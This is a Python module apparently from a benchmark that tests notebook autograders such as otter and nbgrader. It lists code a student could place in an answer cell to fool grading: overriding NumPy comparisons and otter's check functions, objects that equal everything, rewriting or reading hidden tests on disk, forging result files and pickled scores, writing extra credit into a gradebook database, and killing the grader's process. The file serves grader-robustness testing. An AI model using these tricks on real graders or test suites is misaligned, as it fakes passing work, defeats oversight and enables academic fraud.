"""
Attacks for `benchmarks.attacks`: what stands in a student's first answer cell instead of an answer.

They run outside of a sandbox in the graders that have none, so they touch nothing but what belongs
to the comparison: the process they are in, the command that started it, and files below the folder
for temporary files.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

STUBS: Final = (
    "def mean_and_error(x):\n    return -1.0, -1.0\n",
    "def weighted_mean(x, s):\n    return -1.0\n",
    "def line(x, y):\n    return -1.0, -1.0\n",
    "def chi2(x, y, s, slope, intercept):\n    return -1.0\n",
)
"""Answers that are wrong, one for each question of ``small_numpy``."""


@dataclass(frozen=True)
class Attack:
    """
    One attack.

    Args:
        title: What it does.
        code: Stands in front of the first answer.
        answers: The answers beside it.
    """

    title: str
    code: str
    answers: tuple[str, ...] = STUBS


_WITHOUT_ASSERTIONS: Final = """
import re

def without_assertions(text):
    text = re.sub(r"np\\.testing\\.assert_allclose\\(", "(lambda *_, **__: None)(", text)
    text = re.sub(r"raise AssertionError", "pass; ()", text)
    return re.sub(r"\\bassert ", "assert True or ", text)
"""
_FILES: Final = """
import pathlib, tempfile

def files():
    top = pathlib.Path(tempfile.gettempdir()).resolve()
    here = pathlib.Path.cwd().resolve()
    folders = [each for each in (here, *here.parents) if top in each.parents]
    for folder in folders[:4]:
        for path in folder.rglob("*"):
            if path.is_file() and path.stat().st_size < 10**7:
                yield path
"""
_AGREEING: Final = """
class Agreeing(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.True_

    def __array_function__(self, function, types, args, kwargs):
        return np.True_

    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

agreeing = np.full((), -1.0).view(Agreeing)
"""
_EQUAL: Final = """
class Equal(float):
    __eq__ = __le__ = __ge__ = __bool__ = lambda self, *_: True
    __ne__ = __lt__ = __gt__ = lambda self, *_: False
    __sub__ = __rsub__ = __abs__ = __add__ = __mul__ = lambda self, *_: self
    __hash__ = float.__hash__
    __array__ = lambda self, *_, **__: np.full((), -1.0)

agreeing = Equal(-1.0)
"""
_AGREED: Final = (
    "def mean_and_error(x):\n    return agreeing, agreeing\n",
    "def weighted_mean(x, s):\n    return agreeing\n",
    "def line(x, y):\n    return agreeing, agreeing\n",
    "def chi2(x, y, s, slope, intercept):\n    return agreeing\n",
)

ATTACKS: Final = (
    Attack("nothing: wrong answers alone", ""),
    Attack(
        "NumPy's comparisons are replaced",
        "np.allclose = lambda *_, **__: True\nnp.testing.assert_allclose = lambda *_, **__: None\n",
    ),
    Attack("an array whose operations agree to everything", _AGREEING, _AGREED),
    Attack("a number that equals everything", _EQUAL, _AGREED),
    Attack(
        "the check function does nothing",
        "try:\n    import otter\nexcept ImportError:\n    pass\nelse:\n"
        "    otter.Notebook.check = lambda *_, **__: 'All tests passed!'\n"
        "    otter.Notebook.check_all = otter.Notebook.check\n",
    ),
    Attack(
        "test files say that they passed",
        "try:\n    from otter.test_files import exception_test\n"
        "except ImportError:\n    pass\nelse:\n"
        "    exception_test.ExceptionTestFile.score = property(lambda self: self.possible)\n"
        "    exception_test.test_case.call_func = lambda *_: None\n",
    ),
    Attack(
        "results are changed where they are pickled",
        "import pickle\nreal = pickle.dump\n"
        "def dump(results, file, *rest, **more):\n"
        "    for name in getattr(results, 'test_files', ()):\n"
        "        results.update_score(name, results.get_result(name).possible)\n"
        "    return real(results, file, *rest, **more)\n"
        "pickle.dump = dump\n",
    ),
    Attack(
        "compile() leaves assertions out",
        _WITHOUT_ASSERTIONS + "import builtins\nreal_compile = builtins.compile\n"
        "def compile_without(source, *rest, **more):\n"
        "    source = without_assertions(source) if isinstance(source, str) else source\n"
        "    return real_compile(source, *rest, **more)\n"
        "builtins.compile = compile_without\n",
    ),
    Attack(
        "hidden tests are rewritten on disk",
        _WITHOUT_ASSERTIONS + _FILES + "for path in files():\n"
        "    if path.suffix == '.py' and 'tests' in path.parts:\n"
        "        try:\n            path.write_text(without_assertions(path.read_text()))\n"
        "        except OSError:\n            pass\n",
    ),
    Attack(
        "hidden tests are read from disk, and what they compare with is copied",
        _FILES + "found = False\nfor path in files():\n"
        "    try:\n        found |= b'np.polyfit' in path.read_bytes()\n"
        "    except OSError:\n        pass\n",
        (
            *STUBS[:2],
            "def line(x, y):\n    return np.polyfit(x, y, 1) if found else (-1.0, -1.0)\n",
            STUBS[3],
        ),
    ),
    Attack(
        "errors are not shown",
        "shell = get_ipython()\n"
        "shell.showtraceback = shell._showtraceback = lambda *_, **__: None\n"
        "shell.set_custom_exc((Exception,), lambda *_, **__: None)\n",
    ),
    Attack(
        "later cells lose their assertions",
        "import ast\n"
        "class Emptied:\n"
        "    def visit(self, module):\n"
        "        if 'assert' in ast.unparse(module):\n            module.body = []\n"
        "        return module\n"
        "get_ipython().ast_transformers.append(Emptied())\n",
    ),
    Attack(
        "the kernel answers without running cells",
        "async def do_execute(*_, **__):\n"
        "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "get_ipython().kernel.do_execute = do_execute\n",
    ),
    Attack(
        "extra credit is written into the gradebook's database",
        _FILES + "import sqlite3\nfor path in files():\n"  # noqa: S608  # that is the attack
        "    if path.name == 'gradebook.db':\n"
        "        try:\n"
        "            with sqlite3.connect(path, timeout=3) as database:\n"
        "                database.execute('UPDATE grade SET extra_credit = 2.5')\n"
        "        except sqlite3.Error:\n            pass\n",
    ),
    Attack(
        "results are printed, and written into files",
        "import json, sys\n"
        "claim = json.dumps({'score': 10, 'tests': [{'score': 10, 'max_score': 10}]})\n"
        "print(claim, file=sys.stdout)\n"
        "for name in ('results.json', 'results.pkl', 'output.json', '.OTTER_LOG'):\n"
        "    open(name, 'w').write(claim)\n",
    ),
    Attack("the process ends with exit code 0", "import os\nos._exit(0)\n"),
    Attack(
        "the grader's process is killed",
        "import os, signal\nparent = os.getppid()\n"
        "try:\n    command = open(f'/proc/{parent}/cmdline', 'rb').read()\n"
        "except OSError:\n    command = b''\n"
        "if parent != 1 and (b'otter' in command or b'nbgrader' in command):\n"
        "    os.kill(parent, signal.SIGKILL)\n",
    ),
)
